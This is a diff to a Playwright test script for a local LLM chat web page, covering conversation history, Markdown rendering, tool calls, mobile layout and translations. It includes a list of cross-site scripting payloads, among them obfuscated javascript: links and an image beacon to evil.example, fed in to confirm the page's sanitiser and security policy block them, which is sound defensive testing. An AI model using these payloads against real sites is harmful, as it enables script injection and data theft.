@@ -1,50 +1,290 @@
 // The page in a real browser: node page.mjs BASE_URL CHROMIUM [FOLDER FOR PICTURES]
+// What has to be the same each time (hostile answers, long ones) comes from streams made here; the rest from the model.
 import assert from 'node:assert/strict';
+import {readFile, writeFile} from 'node:fs/promises';
+import {tmpdir} from 'node:os';
 import {chromium} from 'playwright-core';
 
 const [, , base, executablePath, pictures] = process.argv;
 const browser = await chromium.launch({executablePath, args: ['--no-sandbox']});
 const problems = [];
 
-async function open(options = {}) {
-  const page = await (await browser.newContext({viewport: {width: 1100, height: 760}, ...options})).newPage();
+async function open(options = {}, prepare = async () => {}) {
+  const page = await (await browser.newContext({viewport: {width: 1100, height: 760}, locale: 'en-GB', ...options})).newPage();
   page.on('pageerror', error => problems.push(String(error)));
   page.on('console', message => message.type() === 'error' && problems.push(message.text()));
+  page.on('request', request => request.url().startsWith(base) || /^(data|blob):/.test(request.url()) || problems.push('asked ' + request.url()));
+  await prepare(page);
+  page.setDefaultTimeout(15_000);
   await page.goto(base);
   await page.waitForFunction(() => document.querySelector('#model').options.length > 0);
   return page;
 }
 const picture = async (page, name) => pictures && page.screenshot({path: `${pictures}/${name}.png`});
 const settled = page => page.waitForFunction(() => !document.querySelector('#send').hidden, null, {timeout: 60000});
-const answers = page => page.locator('.turn.assistant').allTextContents();
-
-try {
-  const page = await open();
-  await page.click('summary');
-  await page.fill('#temperature', '0');
-  await page.fill('#prompt', 'What is the capital of France?');
+async function answers(page) {
+  await page.evaluate(() => Promise.all([...document.querySelectorAll('.turn')].map(turn => turn.drawn)));
+  return page.locator('.turn.assistant .text').allTextContents();
+}
+async function say(page, text) {
+  await page.fill('#prompt', text);
   await page.press('#prompt', 'Enter');
+}
+/// The next questions get this answer, a message a piece; what was asked is put into `asked`.
+async function answerWith(page, messages, asked = []) {
+  await page.unroute('**/api/chat');
+  const lines = [...messages.map(message => ({message})), {message: {content: ''}, done: true, prompt_eval_count: 3, eval_count: 9, eval_duration: 1e9}];
+  await page.route('**/api/chat', route => {
+    asked.push(route.request().postDataJSON());
+    return route.fulfill({contentType: 'application/x-ndjson', body: lines.map(line => JSON.stringify(line)).join('\n') + '\n'});
+  });
+}
+const pieces = text => text.match(/[^]{1,7}/gu).map(content => ({content}));
+const fits = page => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);
+const title = page => page.inputValue('#title');
+const entries = page => page.locator('.entry').allTextContents();
+
+async function talk(page) {
+  const asked = [];
+  page.on('request', request => request.url().endsWith('/api/chat') && asked.push(request.postDataJSON()));
+  await page.click('#settings > summary');
+  await page.fill('#temperature', '0');
+  await say(page, 'What is the capital of France?');
   await settled(page);
   assert.deepEqual(await answers(page), ['The capital of France is Paris.']);
+  assert.deepEqual(asked.at(-1).options, {temperature: 0}, 'only what is set is sent');
   assert.match(await page.textContent('#status'), /tok\/s/);
-  await page.click('#again');
-  await settled(page);
-  assert.deepEqual(await answers(page), ['The capital of France is Paris.'], 'regenerating takes the place of the old answer');
+  await page.reload();
+  await page.waitForFunction(() => document.querySelector('#model').options.length > 0);
+  assert.equal(await page.inputValue('#temperature'), '0', 'parameters are kept');
+  assert.equal(await title(page), '', 'a page begins anew');
+  await page.click('.entry');
+  assert.equal(await title(page), 'What is the capital of France?');
+  assert.deepEqual(await answers(page), ['The capital of France is Paris.'], 'conversations are kept');
 
-  await page.fill('#num_predict', '1800');
-  await page.fill('#temperature', '2');
-  await page.fill('#prompt', 'Tell me a story about a fox and a lantern.');
-  await page.press('#prompt', 'Enter');
-  await page.waitForFunction(() => document.querySelectorAll('.turn.assistant')[1]?.textContent.length > 20);
-  if (await page.isVisible('#stop')) await page.keyboard.press('Escape');
+  await page.click('.again');
   await settled(page);
-  await picture(page, 'chat');
-
-  await page.fill('#prompt', '<img src=x onerror=alert(1)>');
-  await page.press('#prompt', 'Enter');
+  assert.match(await page.textContent('.turn.assistant .turn-tools'), /2\/2/, 'another answer is another branch');
+  await page.click('.turn.user .edit');
+  await page.fill('.editor textarea', 'What is the capital of Italy?');
+  await page.click('.editor button');
   await settled(page);
-  assert.equal(await page.locator('#log img').count(), 0, 'what is said is never HTML');
+  assert.match((await answers(page))[0], /Rome|Italy/);
+  await page.click('.turn.user [aria-label="Previous version"]');
+  assert.deepEqual(await answers(page), ['The capital of France is Paris.']);
 
+  // A long prompt tells how far it is.
+  await page.evaluate(() => {
+    window.said = [];
+    new MutationObserver(() => said.push(document.querySelector('#status').textContent)).observe(document.querySelector('#status'), {childList: true});
+  });
+  await page.click('#settings > summary');
+  await page.fill('#num_predict', '1');
+  await say(page, 'The fox took the lantern and went into the wood. '.repeat(110));
+  await settled(page);
+  assert.ok((await page.evaluate(() => said)).some(text => /Reading the prompt: [\d,]+ of 1,\d+ tokens/.test(text)), 'progress');
+  assert.equal(await page.isHidden('#reading'), true);
+  await page.fill('#num_predict', '');
+  await page.click('#reset');
+}
+
+async function conversations(page) {
+  await page.click('#new');
+  await answerWith(page, pieces('First **answer** with a lighthouse.'));
+  await say(page, 'One more');
+  await settled(page);
+  await page.fill('#title', 'A renamed one');
+  await page.press('#title', 'Enter');
+  await page.waitForFunction(() => [...document.querySelectorAll('.entry')].some(entry => entry.textContent === 'A renamed one'));
+  await page.fill('#search', 'LIGHTHOUSE');
+  await page.waitForFunction(() => document.querySelectorAll('.entry').length === 1);
+  assert.deepEqual(await entries(page), ['A renamed one']);
+  await page.fill('#search', '');
+  await page.waitForFunction(() => document.querySelectorAll('.entry').length === 2);
+  const save = async button => {
+    const [download] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
+    return readFile(await download.path(), 'utf8');
+  };
+  assert.match(await save('#export'), /^# A renamed one\n\n## user\n\nOne more\n\n## demo-moe-q4_k_m\n\nFirst \*\*answer/);
+  const all = JSON.parse(await save('#export-all'));
+  assert.equal(all.conversations.length, 2);
+  page.once('dialog', dialog => dialog.accept());
+  await page.click('#remove');
+  await page.waitForFunction(() => document.querySelectorAll('.entry').length === 1);
+  // What others wrote is checked: turns that point ahead, strangers' roles, markup in names.
+  const turn = (parent, role, content) => ({parent, role, content});
+  all.conversations.push({title: '<img src=x onerror=hacked=1>', turns: [turn(-1, 'user', 'q'), turn(0, 'assistant', 'a'), turn(7, 'user', 'lost')], head: 9},
+                         {turns: 'no'}, null, {title: 'x', turns: [turn(-1, 'root', 'q')]});
+  const file = `${tmpdir()}/millrace-page-${process.pid}.json`;
+  await writeFile(file, JSON.stringify(all));
+  await page.setInputFiles('#import-file', file);
+  await page.waitForFunction(() => document.querySelector('#side-note').textContent === '3 imported');
+  assert.ok((await entries(page)).includes('<img src=x onerror=hacked=1>'));
+  await page.click('.entry:has-text("onerror")');
+  assert.deepEqual(await answers(page), ['a']);
+  await writeFile(file, '{"format": 1}');
+  await page.setInputFiles('#import-file', file);
+  await page.waitForFunction(() => /no conversations/.test(document.querySelector('#side-note').textContent));
+}
+
+const MARKDOWN = `# Title
+
+A **bold** word, \`code\`, \\(x_1 + y_2\\), https://example.com/?a=1&b=2 and [a link](https://example.com "t").
+
+| name | count |
+|------|------:|
+| one  |     1 |
+
+1. first
+
+   \`\`\`make
+   all:
+   \`\`\`
+2. second
+- [x] done
+
+\`\`\`python
+def f(x):
+\treturn "</code>" + x  # note
+\`\`\`
+
+שלום עולם, this is **rtl**.
+
+The end`;
+
+async function markdown(page) {
+  await page.click('#new');
+  await answerWith(page, pieces(MARKDOWN));
+  await page.evaluate(() => {
+    window.spoken = [];
+    new MutationObserver(list => spoken.push(...list.flatMap(one => [...one.addedNodes].map(node => node.textContent))))
+      .observe(document.querySelector('#spoken'), {childList: true, subtree: true});
+  });
+  await say(page, 'Show me Markdown');
+  await settled(page);
+  const text = page.locator('.turn.assistant .text');
+  assert.equal(await text.locator('strong').first().textContent(), 'bold');
+  assert.equal(await text.locator('td[align=right]').textContent(), '1');
+  assert.equal(await text.locator('.formula').textContent(), '\\(x_1 + y_2\\)');
+  assert.equal(await text.locator('a').first().getAttribute('href'), 'https://example.com/?a=1&b=2');
+  assert.equal(await text.locator('a').first().getAttribute('rel'), 'noopener noreferrer nofollow');
+  assert.equal(await text.locator('.code').count(), 2, 'a fence within a list is one, too');
+  assert.equal(await text.locator('.hljs-keyword').first().textContent(), 'def');
+  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+  await text.locator('.code button').last().click();
+  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'def f(x):\n\treturn "</code>" + x  # note');
+  assert.equal(await text.locator('p:has-text("rtl")').evaluate(p => getComputedStyle(p).direction), 'rtl');
+  assert.equal(await text.locator('p:has-text("The end")').evaluate(p => getComputedStyle(p).direction), 'ltr');
+  const spoken = await page.evaluate(() => spoken);
+  assert.equal(spoken.filter(one => one === 'Title').length, 1, 'each block is said once');
+  assert.equal(spoken.at(-1), 'The end');
+  await picture(page, 'markdown');
+}
+
+const HOSTILE = [
+  '<script>hacked=1</script>', '<img src=x onerror=hacked=1>', '<svg/onload=hacked=1>', '<iframe src="javascript:hacked=1"></iframe>',
+  '[a](javascript:hacked=1)', '[a](JaVaScRiPt:hacked=1)', '[a](java&#115;cript:hacked=1)', '[a](&#x6A;avascript:hacked=1)', '[a](data:text/html,<script>hacked=1</script>)',
+  '<javascript:hacked=1>', '[a][b]\n\n[b]: javascript:hacked=1', '[a](https://x.y "t\\" onclick=hacked=1 x=\\"")', '![a](x" onerror="hacked=1)',
+  '![a](https://evil.example/?q=secret)', '```"><img src=x onerror=hacked=1>\ncode\n```', '```html\n<img src=x onerror=hacked=1>\n```',
+  '| <b onmouseover=hacked=1>x</b> |\n|---|\n| <img src=x onerror=hacked=1> |', '`<img src=x onerror=hacked=1>`', '<math><mtext><style><img src=x onerror=hacked=1></style></mtext></math>',
+  '<form><input name=attributes></form>', '<style>*{display:none}</style>', '<base href=https://evil.example>', '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<a href="https://x.y" style="position:fixed;inset:0">x</a>', '<div class="turn error" id="log">x</div>', '\\(<img src=x onerror=hacked=1>\\)', '<!--><img src=x onerror=hacked=1>-->',
+  '- [x] <img src=x onerror=hacked=1>', '# <img src=x onerror=hacked=1>', '&lt;img src=x onerror=hacked=1&gt;', '\u202Egnp.exe', '[a](http://[::1]:99999999/)', '<https://x.y/"onclick="hacked=1>',
+];
+const ALLOWED = new Set(['P', 'BR', 'HR', 'H1', 'UL', 'OL', 'LI', 'PRE', 'CODE', 'SPAN', 'EM', 'STRONG', 'DEL', 'A', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'DIV', 'BUTTON']);
+
+async function hostile(page) {
+  await page.click('#new');
+  const call = {function: {name: '<img src=x onerror=hacked=1>', arguments: {a: '<script>hacked=1</script>'}}};
+  await answerWith(page, [{thinking: HOSTILE.join('\n')}, ...HOSTILE.map(content => ({content: content + '\n\n'})), {content: '', tool_calls: [call]}]);
+  await say(page, '<img src=x onerror=hacked=1>');
+  await settled(page);
+  const found = await page.evaluate(() => [...document.querySelectorAll('.turn.assistant .text *')].map(element => ({
+    tag: element.tagName, attributes: [...element.attributes].map(one => [one.name, one.value])})));
+  const names = new Set(['href', 'class', 'dir', 'target', 'rel', 'title', 'tabindex', 'type', 'start', 'align']);
+  for (const {tag, attributes} of found) {
+    assert.ok(ALLOWED.has(tag), tag);
+    for (const [name, value] of attributes) {
+      assert.ok(names.has(name), `${tag} ${name}`);
+      if (name === 'href') assert.match(value, /^https?:/);
+      if (name === 'class') assert.match(value, /^(|code|code-head|table|plain small|plain-text|formula|(hljs-|language-)\S*( hljs-\S+)*)$/);
+    }
+  }
+  assert.equal(await page.locator('#log img').count(), 0, 'no picture is fetched');
+  assert.equal(await page.evaluate(() => window.hacked), undefined);
+  assert.ok((await answers(page))[0].includes('<script>hacked=1</script>'), 'markup is shown as what it is');
+  // The policy holds where all else fails.
+  const refused = await page.evaluate(async () => {
+    const tries = [() => { document.body.innerHTML = '<b>'; }, () => { document.createElement('script').src = 'data:,hacked=1'; }, () => fetch('https://evil.example'), () => new Worker('data:,')];
+    const results = [];
+    for (const one of tries) results.push(await (async () => one())().then(() => 'went', () => 'refused'));
+    return results;
+  });
+  assert.deepEqual(refused, ['refused', 'refused', 'refused', 'refused']);
+  problems.length = 0;  // the browser said so, too
+  // What keeps the worker busy for too long is plain text.
+  const plain = await page.evaluate(async () => {
+    const {Drawing, limits} = await import('/page/markdown.js');
+    const patience = limits.patience, element = document.createElement('div');
+    limits.patience = 0;
+    await new Drawing(element).finish('**a** <b>');
+    limits.patience = patience;
+    return element.textContent + element.children.length;
+  });
+  assert.equal(plain, '**a** <b>1');
+}
+
+async function longAnswers(page) {
+  // One block that never ends, and many: neither may be drawn anew with each piece.
+  for (const text of ['word '.repeat(16_000), 'A paragraph.\n\n'.repeat(2_000)]) {
+    await page.click('#new');
+    const list = [];
+    for (let at = 0; at < text.length; at += text.length / 4_000) list.push({content: text.slice(at, at + text.length / 4_000)});
+    await answerWith(page, list);
+    const began = performance.now();
+    await say(page, 'Much');
+    await settled(page);
+    const seconds = (performance.now() - began) / 1000;
+    assert.ok(seconds < 12, `4,000 pieces took ${seconds.toFixed(1)} s`);
+    assert.equal((await answers(page))[0].replace(/\s+/g, ''), text.replace(/\s+/g, ''));
+  }
+}
+
+async function toolsAndThoughts(page) {
+  await page.click('#new');
+  const asked = [], tool = {type: 'function', function: {name: 'weather', parameters: {type: 'object'}}};
+  if (!await page.isVisible('#tools')) await page.click('#settings details > summary');
+  await page.fill('#tools', '{');
+  assert.match(await page.textContent('#settings-problem'), /JSON/);
+  await say(page, 'not sent');
+  assert.match(await page.textContent('.turn.error'), /JSON/);
+  await settled(page);
+  await page.click('#new');
+  await page.fill('#tools', JSON.stringify([tool]));
+  await page.fill('#schema', '{"type": "object"}');
+  await answerWith(page, [{thinking: 'Hm. '}, {thinking: 'Rain?'}, {content: 'Let me look.'}, {content: '', tool_calls: [{function: {name: 'weather', arguments: {city: 'Rome'}}}]}], asked);
+  await page.setInputFiles('#attach-file', [{name: 'notes.md', mimeType: 'text/markdown', buffer: Buffer.from('a ``` fence')},
+                                            {name: 'picture.png', mimeType: 'image/png', buffer: Buffer.from([0x89, 0, 0xff])}]);
+  await page.waitForFunction(() => /picture.png/.test(document.querySelector('#status').textContent));
+  assert.equal(await page.locator('li.file').count(), 1, 'what is no text is refused');
+  await say(page, 'What is the weather?');
+  await settled(page);
+  assert.deepEqual([asked[0].tools, asked[0].format, asked[0].messages], [[tool], {type: 'object'}, [{role: 'user', content: 'notes.md\n````md\na ``` fence\n````\n\nWhat is the weather?'}]]);
+  assert.equal(await page.locator('.thought').getAttribute('open'), null, 'thoughts are folded');
+  assert.equal(await page.locator('.thought > div').textContent(), 'Hm. Rain?');
+  assert.equal(await page.textContent('.call'), 'weather({"city":"Rome"})');
+  await answerWith(page, pieces('Sunny.'), asked);
+  await page.fill('.calls textarea', '24 degrees');
+  await page.click('.calls button');
+  await settled(page);
+  assert.deepEqual(asked[1].messages.slice(1), [{role: 'assistant', content: 'Let me look.', tool_calls: [{function: {name: 'weather', arguments: {city: 'Rome'}}}]},
+                                                {role: 'tool', tool_name: 'weather', content: '24 degrees'}]);
+  assert.equal((await answers(page)).at(-1), 'Sunny.');
+  await page.unroute('**/api/chat');
+  await page.click('#reset');
+}
+
+async function machine(page) {
   await page.focus('#tab-chat');
   await page.keyboard.press('ArrowRight');
   await page.waitForSelector('#list li');
@@ -52,22 +292,94 @@ try {
   await picture(page, 'models');
   await page.keyboard.press('ArrowRight');
   await page.waitForSelector('#live:not([hidden])');
-  assert.equal(await page.locator('.tier').count(), 2);
-  assert.match(await page.textContent('#split-words'), /A pass: /);
-  const [columns, rows] = await page.$eval('#heat', canvas => [canvas.width, canvas.height]);
-  assert.deepEqual([columns, rows], [16, 6], 'a row a layer, a column an expert');
-  await page.waitForTimeout(900);
+  await page.waitForSelector('.history');
+  assert.match(await page.textContent('.tier'), /RAM.*of the model/);
+  assert.equal(await page.locator('.beside tr').count(), 4);
+  assert.deepEqual(await page.$eval('#heat-frame canvas', canvas => [canvas.dataset.layers, canvas.dataset.experts]), ['6', '16'], 'a row a layer, a column an expert');
+  const box = await page.locator('#heat-frame canvas').boundingBox();
+  await page.locator('#heat-frame canvas').hover({position: {x: box.width - 5, y: box.height - 5}});
+  assert.match(await page.getAttribute('#heat-frame canvas', 'title'), /Layer 5, expert 15: /);
+  assert.match(await page.textContent('#advice'), /All weights are in RAM/);
   await picture(page, 'machine');
   await page.click('#theme');
   assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'dark');
+  const advice = await page.evaluate(async () => {
+    const {advise} = await import('/page/advice.js');
+    const row = (tier, what, size, used) => ({tier, what, bytes: size * 1e9, bytes_per_token: used * 1e9});
+    const at = (rows, rates, speed) => ({plan: {rows, tokens_per_second: speed}, rates: {disk: 2e9, ram: 20e9, cpu_decode: 30e9, ...rates}, stall_ns: 6, pass_ns: 10, queued: 0, live: 1, max_sequences: 1});
+    return [advise(at([row('ram', 'trunks', 4, 4), row('disk', 'trunks', 4, 4)], {}, 0.5), 8e9), advise(at([row('ram', 'all', 4, 4)], {ram: 0, cpu_decode: 0}, 0), 8e9)];
+  });
+  assert.deepEqual(advice[0], [
+    {key: 'moreRamSpeed', values: {more: '4.0 GB', speed: '2.5'}},
+    {key: 'fewerBitsSpeed', values: {bits: '8.0', to: 'Q4_K_M', size: '4.8 GB', speed: '2.5'}},  // 0.8 GB of 4 still come from the disk at 2 GB/s
+    {key: 'waits', values: {percent: '60'}}]);
+  assert.deepEqual(advice[1].map(line => line.key), ['allInRam', 'waits', 'calibrate']);
+}
 
-  const phone = await open({viewport: {width: 360, height: 640}, colorScheme: 'dark', hasTouch: true});
+/// Every control has a name; nobody has to see it.
+async function named(page) {
+  const unnamed = await page.evaluate(() => [...document.querySelectorAll('button, input, select, textarea, progress')].filter(element =>
+    !(element.getAttribute('aria-label') || element.textContent.trim() || element.closest('label')?.textContent.trim() || element.hidden || element.id === 'progress'))
+    .map(element => element.outerHTML));
+  assert.deepEqual(unnamed, []);
+}
+
+async function phone() {
+  const page = await open({viewport: {width: 360, height: 640}, colorScheme: 'dark', hasTouch: true, isMobile: true});
+  await answerWith(page, pieces(MARKDOWN));
+  await page.fill('#prompt', 'one');
+  await page.press('#prompt', 'Enter');
+  await page.keyboard.type('two');
+  assert.equal(await page.inputValue('#prompt'), 'one\ntwo', 'Enter breaks the line');
+  await page.click('#send');
+  await settled(page);
+  assert.equal(await page.textContent('.said'), 'one\ntwo');
   for (const view of ['chat', 'models', 'machine']) {
-    await phone.click('#tab-' + view);
-    await phone.waitForTimeout(200);
-    assert.ok(await phone.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${view} is wider than a phone`);
-    await picture(phone, 'phone-' + view);
+    await page.click('#tab-' + view);
+    await page.waitForTimeout(150);
+    assert.ok(await fits(page), `${view} is wider than a phone`);
+    await picture(page, 'phone-' + view);
   }
+  await page.click('#tab-chat');
+  await page.click('#side-open');
+  assert.ok(await page.isVisible('#conversations'));
+  await page.click('#new');
+  assert.ok(await page.isHidden('#conversations'));
+}
+
+async function inOtherLanguages() {
+  const models = ['a:latest', 'b:latest'].map(name => ({name, size: 1, details: {}}));
+  const page = await open({locale: 'de-DE'}, async page => {
+    await page.route('**/api/tags', route => route.fulfill({json: {models}}));
+    await page.route('**/api/ps', route => route.fulfill({json: {models: [models[1]]}}));
+    await page.route('**/api/show', route => route.fulfill({json: {parameters: 'temperature                    0.6\nstop                           "x"'}}));
+  });
+  assert.equal(await page.inputValue('#model'), 'b:latest', 'the model that is loaded is the one that is asked');
+  await page.waitForFunction(() => document.querySelector('#temperature').placeholder === '0.6');
+  assert.equal(await page.textContent('#tab-machine'), 'Maschine');
+  assert.equal(await page.evaluate(() => document.documentElement.lang), 'de');
+  await Promise.all([page.waitForNavigation(), page.selectOption('#language', 'ja')]);
+  await page.waitForFunction(() => document.querySelector('#send').textContent === '送信');
+  const wrong = await page.evaluate(async () => {
+    const {languages} = await import('/page/words.js');
+    const places = text => (text?.match(/\{\w+\}/g) ?? ['none']).sort().join();
+    return Object.keys(languages).flatMap(name => Object.keys({...languages.en, ...languages[name]}).filter(
+      key => !(key in languages[name]) || !(key in languages.en) || places(languages.en[key]) !== places(languages[name][key])).map(key => `${name} ${key}`));
+  });
+  assert.deepEqual(wrong, [], 'every language has every phrase, with the same values');
+}
+
+try {
+  const page = await open();
+  const parts = {talk, conversations, markdown, hostile, longAnswers, toolsAndThoughts, machine, named};
+  for (const [name, part] of Object.entries(parts)) {
+    const began = performance.now();
+    await part(page);
+    assert.deepEqual(problems, [], name);
+    console.log(`${name}: ${((performance.now() - began) / 1000).toFixed(1)} s`);
+  }
+  await phone();
+  await inOtherLanguages();
   assert.deepEqual(problems, []);
   console.log('ok');
 } finally {
